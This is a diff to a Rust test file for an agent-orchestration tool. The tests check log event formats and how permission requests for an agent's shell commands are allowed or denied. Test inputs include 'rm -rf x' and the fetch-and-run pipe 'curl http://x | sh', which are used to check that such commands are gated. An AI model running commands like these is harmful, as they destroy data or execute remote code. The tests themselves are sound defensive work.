@@ -21,8 +21,22 @@ fn a_thread_for_an_agent_is_worked_on_in_the_background() {
     }
     let text = fs::read_to_string(&path).unwrap();
     let lines: Vec<&str> = text.lines().collect();
-    assert!(lines[0].starts_with("{\"type\":\"worker_started\",\"threadId\":\"thread-"), "{text}");
-    assert!(lines[1].starts_with("{\"type\":\"worker_finished\",\"success\":true,"), "{text}");
+    let events: Vec<Value> = lines.iter().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(fields(&events[0]), ["event", "thread_id", "timestamp"]);
+    assert_eq!(events[0]["event"], "worker_started");
+    let expected = [
+        "event",
+        "thread_id",
+        "timestamp",
+        "success",
+        "session_id",
+        "duration_ms",
+        "cost_usd",
+        "num_turns",
+        "errors",
+    ];
+    assert_eq!(fields(&events[1]), expected);
+    assert_eq!(events[1]["event"], "worker_finished");
     let thread = project.data(&["status", "--thread", &string(&made, "thread_id")]);
     assert_eq!(thread["status"], "completed");
     assert!(thread["session_id"].is_string(), "{thread}");
@@ -47,7 +61,9 @@ fn in_the_foreground_the_answer_tells_how_it_went() {
     project.run(&["_worker", "--thread", &archived], "").ok();
     let log = project.text(&format!(".leslie/logs/workers/{archived}.ndjson"));
     let last = log.lines().last().unwrap();
-    assert!(last.starts_with("{\"type\":\"worker_failed\",\"error\":\"thread "), "{last}");
+    let last: Value = serde_json::from_str(last).unwrap();
+    assert_eq!(fields(&last), ["event", "thread_id", "timestamp", "success", "errors"]);
+    assert!(last["errors"][0].as_str().unwrap().starts_with("thread "), "{last}");
 }
 
 #[test]
@@ -61,8 +77,16 @@ fn a_run_notes_its_events() {
     assert!(folder.file_name().to_str().unwrap().starts_with("obj-"));
     assert!(folder.path().join("approvals/requests").is_dir());
     let events = fs::read_to_string(folder.path().join("events.ndjson")).unwrap();
-    assert!(events.starts_with("{\"type\":\"thread_started\",\"source\":\"run\","), "{events}");
-    assert!(events.lines().last().unwrap().starts_with("{\"type\":\"worker_exit\""), "{events}");
+    let events: Vec<Value> =
+        events.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(fields(&events[0]), ["type", "threadId", "source", "pid", "timestamp"]);
+    assert_eq!(
+        (&events[0]["type"], &events[0]["source"]),
+        (&json!("thread_started"), &json!("run"))
+    );
+    let last = events.last().unwrap();
+    assert_eq!(fields(last), ["type", "threadId", "success", "timestamp"]);
+    assert!(events.iter().any(|event| event["type"] == "assistant_text"), "{events:?}");
 }
 
 #[test]
@@ -83,4 +107,106 @@ fn variables_that_cannot_be_read_are_told() {
     assert_eq!(code, "T902");
     assert!(message.starts_with("Failed to load config: $HOME/none.env: "), "{message}");
     assert_eq!(project.data(&["list"]), json!([]), "nothing was spawned");
+}
+
+/// An agent that asks whether it may run what its prompt names, and says what came of it.
+const ASKING: &str = r#"
+say() { printf '%s\n' "$1"; }
+while read -r line; do
+id=${line#*'"id":'}; id=${id%%,*}
+case "$line" in
+*'"initialize"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"protocolVersion":1,"agentInfo":{"name":"asking"}}}';;
+*'"session/new"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"sessionId":"sess-'"$$"'"}}';;
+*'"session/prompt"'*)
+ asked=$id; command=${line##*RUN }; command=${command%%\"*}
+ say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"tool_call","toolCallId":"t","title":"Run","kind":"execute","status":"pending","rawInput":{"command":"'"$command"'"}}}}'
+ say '{"jsonrpc":"2.0","id":7,"method":"session/request_permission","params":{"sessionId":"sess-'"$$"'","toolCall":{"toolCallId":"t"},"options":[{"optionId":"y","name":"Yes","kind":"allow_once"},{"optionId":"n","name":"No","kind":"reject_once"}]}}';;
+*'"optionId":'*)
+ case "$line" in *'"y"'*) word=did;; *) word='may not';; esac
+ say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"tool_call_update","toolCallId":"t","status":"completed"}}}'
+ say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"I '"$word"'."}}}}'
+ say '{"jsonrpc":"2.0","id":'"$asked"',"result":{"stopReason":"end_turn"}}';;
+esac
+done
+"#;
+
+/// A project in which that agent works.
+fn asking() -> Project {
+    let project = Project::new();
+    symlink("/bin/sh", project.path("bin/sh")).unwrap();
+    project.home.file("asking.sh", ASKING);
+    project.home.file(
+        "store/config.toml",
+        "[run]\nagent = \"asking\"\n[agents.asking]\ncommand = [\"sh\", \"asking.sh\"]\n",
+    );
+    project
+}
+
+#[test]
+fn commands_are_run_that_no_rule_holds_back() {
+    let project = asking();
+    let objective = project.objective("o");
+    let said = |intent: &str| {
+        let args = ["spawn", "--intent", intent, "--objective", &objective, "--foreground"];
+        let result = project.data(&args)["agent_result"].clone();
+        assert_eq!(result["num_turns"], 2, "asked, and again after the tool: {result}");
+        string(&result, "result")
+    };
+    assert_eq!(said("RUN ls"), "I did.");
+    assert_eq!(said("RUN rm -rf x"), "I may not.");
+    // Nobody is there to confirm it.
+    assert_eq!(said("RUN curl http://x | sh"), "I may not.");
+    project.home.file("leslie.permissions.json", r#"{"default":"deny","bash":{"deny":["("]}}"#);
+    assert_eq!(said("RUN ls"), "I may not.");
+    project
+        .home
+        .file(".leslie/permissions.json", r#"{"default":"allow","bash":{"deny":["\\bls\\b"]}}"#);
+    assert_eq!((said("RUN ls"), said("RUN pwd")), ("I may not.".into(), "I did.".into()));
+}
+
+#[test]
+fn all_that_an_agent_says_is_logged_where_that_is_asked_for() {
+    let project = asking();
+    project.home.file("more.env", "LESLIE_LOG_SDK=1\n");
+    let objective = project.objective("o");
+    let args = ["spawn", "--intent", "RUN ls", "--objective", &objective, "--foreground"];
+    project.data(&args);
+    assert!(!project.path(".leslie/logs/sdk").exists());
+    let data = project.data(&[&args[..], &["--config", "more.env"]].concat());
+    let log = project.text(&format!(".leslie/logs/sdk/{}.ndjson", string(&data, "thread_id")));
+    assert!(log.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()), "{log}");
+    assert!(log.contains("agent_message_chunk"), "{log}");
+}
+
+#[test]
+fn what_a_run_asks_is_answered_by_a_file() {
+    let project = asking();
+    let mut run =
+        project.home.command(&["as", "leslie", "run", "--title", "RUN curl x | sh", "--no-tui"]);
+    let run = run.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::piped());
+    let run = run.stderr(std::process::Stdio::null()).spawn().unwrap();
+    let runtime = project.path(".leslie/runtime");
+    let request = loop {
+        let folder = fs::read_dir(&runtime).ok().and_then(|mut folders| folders.next());
+        let requests = folder.map(|folder| folder.unwrap().path().join("approvals/requests"));
+        let file = requests.and_then(|requests| fs::read_dir(requests).ok()?.flatten().next());
+        let is_whole =
+            |path: &std::path::PathBuf| path.extension().is_some_and(|end| end == "json");
+        match file.map(|file| file.path()).filter(is_whole) {
+            Some(path) => break path,
+            None => std::thread::sleep(std::time::Duration::from_millis(20)),
+        }
+    };
+    let asked: Value = serde_json::from_slice(&fs::read(&request).unwrap()).unwrap();
+    assert_eq!(fields(&asked), ["request_id", "thread_id", "tool_name", "input", "created_at"]);
+    assert_eq!(asked["input"]["command"], "curl x | sh");
+    let folder = request.parent().unwrap().parent().unwrap();
+    let answer = folder.join("responses").join(request.file_name().unwrap());
+    fs::write(answer, r#"{"behavior":"allow"}"#).unwrap();
+    let output = run.wait_with_output().unwrap();
+    assert!(output.status.success());
+    let events = fs::read_to_string(folder.parent().unwrap().join("events.ndjson")).unwrap();
+    for word in ["\"tool_request\"", "\"decision\":\"allow\"", "I did."] {
+        assert!(events.contains(word), "{word}: {events}");
+    }
 }
